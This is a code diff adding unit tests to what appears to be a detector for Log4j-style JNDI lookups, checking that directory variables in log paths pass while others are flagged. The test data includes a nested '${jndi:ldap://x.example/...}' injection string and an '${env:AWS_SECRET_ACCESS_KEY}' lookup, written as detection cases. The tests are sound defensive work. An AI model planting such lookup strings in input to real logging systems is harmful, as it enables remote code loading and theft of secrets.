@@ -118,6 +118,14 @@ TEST(JndiTest, DirectoryPropertiesInLogPaths) {
   // A logging configuration's path names a directory property.
   EXPECT_EQ(testing::RuleOf(JndiDetector(), "${sys:catalina.home}/logs/app-%d.log"), "");
   EXPECT_EQ(testing::RuleOf(JndiDetector(), "${sys:java.io.tmpdir}/x"), "");
+  // And an environment variable that holds an application's directory.
+  EXPECT_EQ(testing::RuleOf(JndiDetector(),
+                            "appender.file.fileName = ${env:LOG_DIR:-/var/log/app}/app.log"),
+            "");
+  EXPECT_EQ(testing::RuleOf(JndiDetector(), "${env:CATALINA_HOME}/conf"), "");
+  EXPECT_EQ(testing::RuleOf(JndiDetector(), "${env:AWS_SECRET_ACCESS_KEY}"),
+            "jndi.sensitive_lookup");
+  EXPECT_NE(testing::RuleOf(JndiDetector(), "${jndi:ldap://x.example/${env:LOG_DIR}}"), "");
   // Other properties and the environment still leak.
   EXPECT_EQ(testing::RuleOf(JndiDetector(), "${sys:user.name}"), "jndi.sensitive_lookup");
   EXPECT_EQ(testing::RuleOf(JndiDetector(), "${env:HOME}"), "jndi.sensitive_lookup");
